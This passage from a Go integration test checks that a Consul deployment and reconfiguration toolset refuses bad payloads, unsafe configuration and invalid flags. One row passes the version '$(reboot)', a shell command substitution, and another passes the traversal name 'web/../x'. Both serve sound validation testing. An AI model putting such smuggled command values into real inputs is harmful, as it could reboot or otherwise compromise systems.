			stdin: desired(nodeName, `{"id":"d1","version":"v2","artifact":"https://releases.example.com/web/v2.tgz","sha256":"`+sum[:63]+`z"}`), code: app.ExitBadPayload,
			want: []string{`bad desired value: sha256 \"` + sum[:63] + `z\" must be 64 hex digits`}},
		{name: "deploy: a token file others may read", prog: "deploy", args: []string{"-config", openTokenCfg}, stdin: desired(nodeName, goodDesired), code: app.ExitConfig,
			want: []string{"deploy: " + openTokenCfg + ":2:3: consul.token_file: " + openToken + " is readable or writable by group or others (mode 0644)"}},
		{name: "rehydrate deploy status: a token file others may read", prog: "rehydrate", args: []string{"-config", openTokenCfg, "deploy", "status", "--service", "web"},
			code: app.ExitConfig, want: []string{"consul.token_file: " + openToken + " is readable or writable by group or others (mode 0644)"}},
		{name: "rehydrate deploy start: only a catalog node with no agent", prog: "rehydrate",
			args: []string{"deploy", "start", "--service", "fakeweb", "--version", "v2"}, code: app.ExitRefused,
			want: []string{`no node of service fakeweb to deploy to; refused \"fake-web\": in the catalog but not a member of the gossip pool`}},
		{name: "rehydrate deploy start: a node filter that leaves no node", prog: "rehydrate",
			args: []string{"deploy", "start", "--service", "fakeweb", "--version", "v2", "--node-filter", `Node != "fake-web"`}, code: app.ExitRefused,
			want: []string{"refused: no instance of service fakeweb in the catalog that --node-filter", "selects"}},
		{name: "rehydrate deploy start: a node filter Consul cannot evaluate", prog: "rehydrate",
			args: []string{"deploy", "start", "--service", "fakeweb", "--version", "v2", "--node-filter", "Node ==="}, code: app.ExitUsage,
			want: []string{`--node-filter \"Node ===\"`, "Failed to create boolean expression evaluator"}},
		{name: "rehydrate deploy start: a node_filter in the deploy block that does not parse", prog: "rehydrate",
			args: []string{"-config", badFilterCfg, "deploy", "start", "--service", "web", "--version", "v2"}, code: app.ExitConfig,
			want: []string{badFilterCfg + `:3:3: deploy.web.node_filter "Node ===" is not a Consul filter expression: 1:8 (7): no match found`}},
		{name: "deploy: a node_filter in the deploy block that does not parse", prog: "deploy", args: []string{"-config", badFilterCfg},
			stdin: desired(nodeName, goodDesired), code: app.ExitConfig,
			want: []string{"deploy: " + badFilterCfg + `:3:3: deploy.web.node_filter "Node ===" is not a Consul filter expression`}},
		{name: "rehydrate deploy start: real nodes outside the configured node_filter", prog: "rehydrate",
			args: []string{"-config", outsideCfg, "deploy", "start", "--service", "consul", "--version", "v2"}, code: app.ExitRefused,
			want: []string{`refused: no instance of service consul in the catalog that deploy.consul.node_filter \"NodeMeta.pool == \\"blue\\"\" selects`}},
		{name: "rehydrate deploy start: a --node-filter cannot widen the configured node_filter", prog: "rehydrate",
			args: []string{"-config", outsideCfg, "deploy", "start", "--service", "consul", "--version", "v2", "--node-filter", `Node matches "."`}, code: app.ExitRefused,
			want: []string{`refused: no instance of service consul in the catalog that deploy.consul.node_filter`, `and --node-filter \"Node matches \\".\\"\" selects`}},
		{name: "rehydrate deploy start: a version that is shell", prog: "rehydrate", args: []string{"deploy", "start", "--service", "web", "--version", "$(reboot)"},
			code: app.ExitUsage, want: []string{`rehydrate deploy start: --version/--artifact/--sha256: version "$(reboot)" must be 1 to 128 characters`}},
		{name: "rehydrate deploy start: a sha256 that is not one", prog: "rehydrate", args: []string{"deploy", "start", "--service", "web", "--version", "v2", "--sha256", "abc"},
			code: app.ExitUsage, want: []string{`--version/--artifact/--sha256: sha256 "abc" must be 64 hex digits`}},
		{name: "rehydrate deploy start: no version", prog: "rehydrate", args: []string{"deploy", "start", "--service", "web"}, code: app.ExitUsage,
			want: []string{"rehydrate deploy start: --version/--artifact/--sha256: missing version"}},
		{name: "rehydrate deploy start: a service name unsafe in a key", prog: "rehydrate",
			args: []string{"deploy", "start", "--service", "web/../x", "--version", "v2", "--batch", "0"}, code: app.ExitUsage,
			want: []string{`--service "web/../x": want a service name`, "--batch must be at least 1, got 0"}},
		{name: "rehydrate deploy: broken configuration", prog: "rehydrate", args: []string{"-config", brokenDeployCfg, "deploy", "status", "--service", "web"},
			code: app.ExitConfig, want: []string{"rehydrate deploy status: " + brokenDeployCfg + ":1:1: deploy.web.command is required"}},
	}...)

	// The reconfigure handler: the service watch's payload, and broken blocks. It
	// writes nothing but its file and state, both under e.dir/reconfigure, which must
	// stay absent.
	rdir := filepath.Join(e.dir, "reconfigure")
	reconfCfg := filepath.Join(e.dir, "reconfigure.hcl")
	require.NoError(t, os.WriteFile(reconfCfg, []byte(fmt.Sprintf(`reconfigure "lb" {
  service     = "web"
  template    = "{{ range .Instances }}{{ .Address }}\n{{ end }}"
  destination = %q
  state_file  = %q
}
`, filepath.Join(rdir, "lb.conf"), filepath.Join(rdir, "state.json"))), 0o644))
	brokenReconfCfg := filepath.Join(e.dir, "reconfigure-broken.hcl")
	require.NoError(t, os.WriteFile(brokenReconfCfg, []byte(`reconfigure "lb" {
  destination = "/tmp/never-written.conf"
  template    = "{{ range .Instances }}"
}
`), 0o644))
	rcfg := []string{"-config", reconfCfg}
	webEntry := `{"Node":{"Node":"n1","Address":"127.0.0.9"},"Service":{"ID":"web","Service":"web","Port":80},"Checks":[]}`
	rows = append(rows, []row{
		{name: "reconfigure: empty stdin", prog: "reconfigure", args: rcfg, stdin: nil, code: app.ExitBadPayload,
			want: []string{"refusing service payload", "decode service watch payload: empty payload"}},
		{name: "reconfigure: not JSON", prog: "reconfigure", args: rcfg, stdin: []byte("hello\n"), code: app.ExitBadPayload,
			want: []string{"decode service watch payload: invalid JSON at offset 1"}},
		{name: "reconfigure: an entry of another service", prog: "reconfigure", args: rcfg, stdin: []byte("[" + consulEntry + "]"), code: app.ExitBadPayload,
			want: []string{`entry for service \"consul\", want \"web\"`}},
		{name: "reconfigure: huge (10 MiB of valid entries)", prog: "reconfigure", args: rcfg, stdin: huge(webEntry, tenMiB), code: app.ExitBadPayload,
			want: []string{fmt.Sprintf("decode service watch payload: payload exceeds %d bytes", limit)}, maxRead: limit + slack},
		{name: "reconfigure: a template that does not parse", prog: "reconfigure", args: []string{"-config", brokenReconfCfg}, stdin: []byte("[" + webEntry + "]"),
			code: app.ExitConfig, want: []string{"reconfigure: " + brokenReconfCfg + ":3:3: reconfigure.lb.template does not parse: template: reconfigure.lb.template:1: unexpected EOF"}},
		{name: "reconfigure: no such block", prog: "reconfigure", args: append([]string{"-name", "db"}, rcfg...), stdin: []byte("[" + webEntry + "]"),
			code: app.ExitUsage, want: []string{`no reconfigure block "db" in the configuration`}},
		{name: "reconfigure: a configuration with no reconfigure block", prog: "reconfigure", args: cfg, stdin: []byte("[" + webEntry + "]"),
			code: app.ExitConfig, want: []string{"reconfigure: " + e.cfgPath + `:1:1: a reconfigure "<name>" block is required`}},
	}...)

	// Broken configuration files, for both handlers and the CLI. The handlers get
	// input they would otherwise act on.
	missing := filepath.Join(e.dir, "no-such-dir", "rehydrate.hcl")
	configRows := []struct {
		name, path, want string
	}{{"missing file", missing, "read config: open " + missing + ": no such file or directory"}}
	good, err := os.ReadFile(e.cfgPath)
	require.NoError(t, err)
	for i, bc := range brokenConfigs {
		p := filepath.Join(e.dir, fmt.Sprintf("broken-%d.hcl", i))
		require.NoError(t, os.WriteFile(p, []byte(bc.edit(string(good))), 0o644))
		configRows = append(configRows, struct{ name, path, want string }{bc.name, p, bc.want(p)})
	}
	for _, cr := range configRows {
		rows = append(rows,
			row{name: "spinup: config " + cr.name, prog: "spinup", args: []string{"-config", cr.path}, stdin: wouldRoll,
				code: app.ExitConfig, want: []string{"spinup: " + cr.want}},
			row{name: "spindown: config " + cr.name, prog: "spindown", args: []string{"-config", cr.path}, stdin: []byte("[" + consulEntry + "]"),
				code: app.ExitConfig, want: []string{"spindown: " + cr.want}},
			row{name: "rehydrate status: config " + cr.name, prog: "rehydrate", args: []string{"-config", cr.path, "status"},
				code: app.ExitConfig, want: []string{"rehydrate status: " + cr.want}},
		)
	}

	deadline := time.Now().Add(tableBudget)
	last := before
	for _, r := range rows {
		if time.Now().After(deadline) {
			t.Fatalf("the table took more than %s; stopped before %q", tableBudget, r.name)
		}
		t.Run(r.name, func(t *testing.T) {
			res := run(t, execTimeout, r.stdin, e.handlerEnv(), r.prog, r.args...)
			assert.Equal(t, r.code, res.code, "exit code\nstdout:\n%s\nstderr:\n%s", res.stdout, res.stderr)
			for _, w := range r.want {
				assert.Contains(t, res.stderr, w, "stderr")
			}
			if r.maxRead > 0 {
				t.Logf("read %d of %d bytes of stdin in %s", res.consumed, len(r.stdin), res.elapsed.Round(time.Millisecond))
				assert.LessOrEqual(t, res.consumed, r.maxRead, "stdin read: %d of %d bytes", res.consumed, len(r.stdin))
				assert.Less(t, res.elapsed, 10*time.Second, "a payload over the limit is refused at once")
			}
			// Compared with the world just before this row, so that a row that changes
			// something fails alone, not every row after it too.
			now := e.snapshot()
			assert.Equal(t, last, now, "the world changed")
			last = now
		})
	}
	require.Equal(t, before, e.snapshot(), "the world changed during the table")
	_, err = os.Stat(filepath.Join(e.dir, "reconfigure"))
	require.ErrorIs(t, err, os.ErrNotExist, "the reconfigure handler wrote its file or state for a bad input")

	// Control: a valid request the handler refuses (Z is no image the provider has)
	// is recorded as handled under the cluster's KV prefix. The comparison above must
	// see that.
	t.Run("control: a refused valid request is recorded, and the comparison sees it", func(t *testing.T) {
		const id = "c0000000-0000-0000-0000-00000000000c"
		res := run(t, execTimeout, request(id, `{"image_id":"Z"}`), e.handlerEnv(), "spinup", cfg...)
		require.Equal(t, app.ExitRefused, res.code, "stderr:\n%s", res.stderr)
		assert.Contains(t, res.stderr, "image Z is not allowed by the image filter or does not exist")

		after := e.snapshot()
		assert.NotEqual(t, before, after, "the comparison must see the handler's write")
		key := "rehydrate/" + clusterName + "/events/" + id
		assert.True(t, slices.ContainsFunc(after.KV, func(k kvEntry) bool { return k.Key == key }),
			"%s not in KV: %+v", key, after.KV)
		// Refused: nothing happened in the cloud or to raft.
		assert.Equal(t, before.Instances, after.Instances)
		assert.Equal(t, before.Images, after.Images)
		assert.Equal(t, before.Raft, after.Raft)
	})
}
